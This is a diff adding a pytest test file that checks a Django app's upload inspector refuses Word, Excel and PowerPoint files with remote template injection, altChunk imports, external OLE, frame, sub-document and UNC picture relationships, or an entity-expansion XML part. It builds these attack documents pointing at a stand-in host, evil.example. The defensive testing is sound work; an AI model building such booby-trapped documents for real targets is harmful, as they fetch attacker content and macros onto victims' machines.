@@ -1,0 +1,312 @@
+"""Finding 5: Office files that fetch or import content from elsewhere are refused.
+
+A .docx whose settings name a template on a web server (remote template
+injection: Word fetches it, macros and all, when the file opens), one with an
+altChunk part (HTML that Word imports), and relationships to external OLE
+objects, frames, sub-documents and pictures were all accepted. Every .rels part
+of a Word, Excel or PowerPoint file is now read with a safe XML parser; a
+relationship with TargetMode="External" is refused unless it is a hyperlink, and
+attachedTemplate, oleObject, aFChunk (altChunk), frame, subDocument and ActiveX
+relationships are refused wherever they point. The files are put together here
+with zipfile; a hyperlink to the web must still be accepted.
+"""
+
+import io
+import zipfile
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+from django.utils import translation
+
+from reglab.provrum.models import Document
+from reglab.provrum.uploads import UploadRefused, inspect_upload
+from tests.provrum import work_samples as samples
+from tests.provrum.api_client import ApiClient
+from tests.provrum.conftest import cast, make_provrum  # noqa: F401 – fixtures
+from tests.provrum.views_helpers import sign_in
+from tests.provrum.work_fixtures import (
+    add_document,
+    people_fixture,  # noqa: F401 – a fixture
+    running_fixture,  # noqa: F401 – a fixture
+    upload,
+)
+
+RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+STRICT_R = "http://purl.oclc.org/ooxml/officeDocument/relationships"
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def rels(*relationships: tuple) -> str:
+    """A .rels part: each relationship is (id, type, target) or (id, type, target, mode)."""
+    rows = []
+    for relationship in relationships:
+        rid, kind, target, *mode = relationship
+        mode_attribute = f' TargetMode="{mode[0]}"' if mode else ""
+        rows.append(f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode_attribute}/>')
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="{RELS_NS}">{"".join(rows)}</Relationships>'
+    )
+
+
+def docx_with(*, add=None, replace=None, document_rels=()) -> bytes:
+    """python-docx's Word file with parts added or replaced, and more relationships
+    in word/_rels/document.xml.rels."""
+    data = samples.docx_bytes()
+    replace = dict(replace or {})
+    if document_rels:
+        with zipfile.ZipFile(io.BytesIO(data)) as archive:
+            existing = archive.read("word/_rels/document.xml.rels").decode()
+        extra = rels(*document_rels).split(f'<Relationships xmlns="{RELS_NS}">')[1]
+        replace["word/_rels/document.xml.rels"] = existing.replace(
+            "</Relationships>", extra.replace("</Relationships>", "") + "</Relationships>"
+        )
+    return samples.rezip(data, add=add, replace=replace)
+
+
+def template_injection_docx(target="https://evil.example/mall.dotm", mode="External") -> bytes:
+    """Word's settings name a template on a web server: Word fetches it on opening."""
+    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
+        settings = archive.read("word/settings.xml").decode()
+    settings = settings.replace(
+        "<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/><w:zoom', 1
+    )
+    assert "attachedTemplate" in settings
+    return docx_with(
+        replace={"word/settings.xml": settings},
+        add={"word/_rels/settings.xml.rels": rels(("rId1", f"{R}/attachedTemplate", target, mode))},
+    )
+
+
+def alt_chunk_docx() -> bytes:
+    """An altChunk: an HTML part that Word imports into the document when it opens."""
+    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
+        document = archive.read("word/document.xml").decode()
+        types = archive.read("[Content_Types].xml").decode()
+    document = document.replace(
+        "<w:sectPr", f'<w:altChunk xmlns:r="{R}" r:id="rIdChunk"/><w:sectPr', 1
+    )
+    types = types.replace("</Types>", '<Default Extension="html" ContentType="text/html"/></Types>')
+    return docx_with(
+        replace={"word/document.xml": document, "[Content_Types].xml": types},
+        add={"word/chunk.html": "<html><body><img src='https://evil.example/x'></body></html>"},
+        document_rels=[("rIdChunk", f"{R}/aFChunk", "chunk.html")],
+    )
+
+
+def hyperlink_docx() -> bytes:
+    """A Word file with a link to the web: an external relationship that is allowed."""
+    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
+        document = archive.read("word/document.xml").decode()
+    link = (
+        f'<w:p><w:hyperlink xmlns:r="{R}" r:id="rIdLink"><w:r><w:t>Reglab</w:t></w:r>'
+        "</w:hyperlink></w:p>"
+    )
+    document = document.replace("<w:sectPr", link + "<w:sectPr", 1)
+    return docx_with(
+        replace={"word/document.xml": document},
+        document_rels=[("rIdLink", f"{R}/hyperlink", "https://reglab.se/?a=1&amp;b=2", "External")],
+    )
+
+
+def refused(name: str, data: bytes) -> UploadRefused:
+    with pytest.raises(UploadRefused) as caught:
+        inspect_upload(name, data)
+    assert name in caught.value.message
+    return caught.value
+
+
+# Refused by the checks -------------------------------------------------------------------
+
+
+def test_a_remote_template_is_refused():
+    assert refused("rapport.docx", template_injection_docx()).code == "office_external_content"
+
+
+def test_a_template_relationship_is_refused_even_inside_the_file():
+    data = template_injection_docx(target="mall.dotm", mode="Internal")
+    assert refused("rapport.docx", data).code == "office_external_content"
+
+
+def test_an_alt_chunk_is_refused():
+    assert refused("rapport.docx", alt_chunk_docx()).code == "office_embedded_content"
+
+
+@pytest.mark.parametrize(
+    ("relationship", "code"),
+    [
+        (("rIdX", f"{R}/oleObject", "file://server/share/o.bin", "External"),
+         "office_external_content"),
+        (("rIdX", f"{R}/oleObject", "embeddings/oleObject1.bin"), "office_embedded_content"),
+        (("rIdX", f"{R}/frame", "https://evil.example/frame.html", "External"),
+         "office_external_content"),
+        (("rIdX", f"{R}/frame", "frame.xml"), "office_embedded_content"),
+        (("rIdX", f"{R}/subDocument", "https://evil.example/del.docx", "External"),
+         "office_external_content"),
+        (("rIdX", f"{R}/subDocument", "del.docx"), "office_embedded_content"),
+        (("rIdX", f"{R}/image", "https://evil.example/spårning.png", "External"),
+         "office_external_content"),
+        (("rIdX", f"{R}/image", "\\\\evil.example\\share\\x.png", "External"),
+         "office_external_content"),
+        (("rIdX", f"{STRICT_R}/attachedTemplate", "https://evil.example/t.dotm", "External"),
+         "office_external_content"),
+        (("rIdX", f"{R}/AttachedTemplate", "https://evil.example/t.dotm", "external"),
+         "office_external_content"),
+        (("rIdX", f"{R}/control", "activeX/activeX1.xml"), "office_embedded_content"),
+        (("rIdX", f"{STRICT_R}/aFChunk", "chunk.mht"), "office_embedded_content"),
+    ],
+    ids=[
+        "ole-external", "ole-inside", "frame-external", "frame-inside", "subdocument-external",
+        "subdocument-inside", "picture-external", "picture-unc", "strict-template",
+        "odd-case", "activex", "strict-altchunk",
+    ],
+)  # fmt: skip
+def test_other_relationships_that_fetch_or_import_are_refused(relationship, code):
+    assert refused("rapport.docx", docx_with(document_rels=[relationship])).code == code
+
+
+def test_every_rels_part_is_read_not_only_the_documents():
+    # A relationship in the web settings (where Word keeps frames) and one in the
+    # package's own .rels.
+    web = rels(("rId1", f"{R}/frame", "https://evil.example/f.html", "External"))
+    data = docx_with(add={"word/_rels/webSettings.xml.rels": web})
+    assert refused("rapport.docx", data).code == "office_external_content"
+    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
+        package = archive.read("_rels/.rels").decode()
+    package = package.replace(
+        "</Relationships>",
+        f'<Relationship Id="rIdT" Type="{R}/attachedTemplate" '
+        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    )
+    data = samples.rezip(samples.docx_bytes(), replace={"_rels/.rels": package})
+    assert refused("rapport.docx", data).code == "office_external_content"
+
+
+def test_an_excel_workbook_that_links_elsewhere_is_refused():
+    link = rels(("rId1", f"{R}/externalLinkPath", "https://evil.example/data.xlsx", "External"))
+    data = samples.rezip(
+        samples.xlsx_bytes(), add={"xl/externalLinks/_rels/externalLink1.xml.rels": link}
+    )
+    assert refused("budget.xlsx", data).code == "office_external_content"
+
+
+def test_a_presentation_with_an_external_object_is_refused():
+    slide = rels(("rId2", f"{R}/oleObject", "https://evil.example/o.bin", "External"))
+    data = samples.ooxml_bytes("pptx", members={"ppt/slides/_rels/slide1.xml.rels": slide})
+    assert refused("bilder.pptx", data).code == "office_external_content"
+
+
+def test_a_rels_part_with_an_entity_declaration_is_refused():
+    bomb = (
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
+        f'<Relationships xmlns="{RELS_NS}"><Relationship Id="r" Type="&b;" Target="x"/>'
+        "</Relationships>"
+    )
+    data = docx_with(add={"word/_rels/settings.xml.rels": bomb})
+    assert refused("rapport.docx", data).code == "zip_broken"
+
+
+def test_a_rels_part_that_is_not_xml_is_refused():
+    data = docx_with(add={"word/_rels/settings.xml.rels": "<Relationships><Relat"})
+    assert refused("rapport.docx", data).code == "zip_broken"
+
+
+def test_the_messages_are_swedish():
+    with translation.override("sv"):
+        external = refused("rapport.docx", template_injection_docx()).message
+        embedded = refused("rapport.docx", alt_chunk_docx()).message
+    assert "rapport.docx" in external and "hämtar" in external
+    assert "rapport.docx" in embedded and "inbäddat" in embedded
+
+
+# Harmless files are kept -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "make"),
+    [
+        ("Länkar.docx", hyperlink_docx),
+        (
+            "Strikt länk.docx",
+            lambda: docx_with(
+                document_rels=[("rIdL", f"{STRICT_R}/hyperlink", "mailto:kansli@reglab.se",
+                                "External")]
+            ),
+        ),
+        ("Minnesanteckningar.docx", samples.docx_bytes),
+        ("Budget.xlsx", samples.xlsx_bytes),
+        ("Bilder.pptx", samples.pptx_bytes),
+    ],
+)  # fmt: skip
+def test_files_with_hyperlinks_and_plain_files_are_accepted(name, make):
+    inspected = inspect_upload(name, make())
+    assert inspected.kind == name.rsplit(".", 1)[1]
+
+
+# Through the service, the page and the API -----------------------------------------------
+
+ATTACKS = [
+    (template_injection_docx, "office_external_content"),
+    (alt_chunk_docx, "office_embedded_content"),
+]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(("make", "code"), ATTACKS, ids=["template", "altchunk"])
+def test_the_upload_service_refuses_the_attacks(running, people, make, code):
+    with pytest.raises(ValidationError) as caught:
+        add_document(running, people["leader"], name="Protokoll.docx", data=make())
+    error = caught.value.error_dict["file"][0]
+    assert error.code == code
+    assert "Protokoll.docx" in error.message
+    assert not Document.objects.exists()
+
+
+@pytest.mark.django_db
+def test_the_upload_service_keeps_a_file_with_a_hyperlink(running, people):
+    document = add_document(running, people["leader"], name="Länkar.docx", data=hyperlink_docx())
+    assert Document.objects.get().pk == document.pk
+    assert document.kind == "docx"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(("make", "code"), ATTACKS, ids=["template", "altchunk"])
+def test_the_upload_page_refuses_the_attacks(client, running, people, make, code):
+    response = sign_in(client, people["participant"]).post(
+        reverse("provrum:document_upload", args=[running.pk]),
+        {"file": upload("Protokoll.docx", make(), "application/octet-stream")},
+    )
+    assert response.status_code == 422
+    page = response.content.decode()
+    assert f'data-codes="{code}"' in page
+    assert "Protokoll.docx" in page
+    assert not Document.objects.exists()
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(("make", "code"), ATTACKS, ids=["template", "altchunk"])
+def test_the_api_refuses_the_attacks(client, running, people, make, code):
+    data = make()
+    response = client.post(
+        f"/api/v1/provrum/{running.pk}/documents",
+        {"file": SimpleUploadedFile("Protokoll.docx", data)},
+        headers=ApiClient(client, people["leader"]).headers,
+    )
+    assert response.status_code == 422
+    message = response.json()["fields"]["file"][0]
+    assert message == refused("Protokoll.docx", data).message
+    assert not Document.objects.exists()
+
+
+@pytest.mark.django_db
+def test_the_api_keeps_a_file_with_a_hyperlink(client, running, people):
+    response = client.post(
+        f"/api/v1/provrum/{running.pk}/documents",
+        {"file": SimpleUploadedFile("Länkar.docx", hyperlink_docx())},
+        headers=ApiClient(client, people["leader"]).headers,
+    )
+    assert response.status_code == 201, response.content
+    assert Document.objects.get().name == "Länkar.docx"
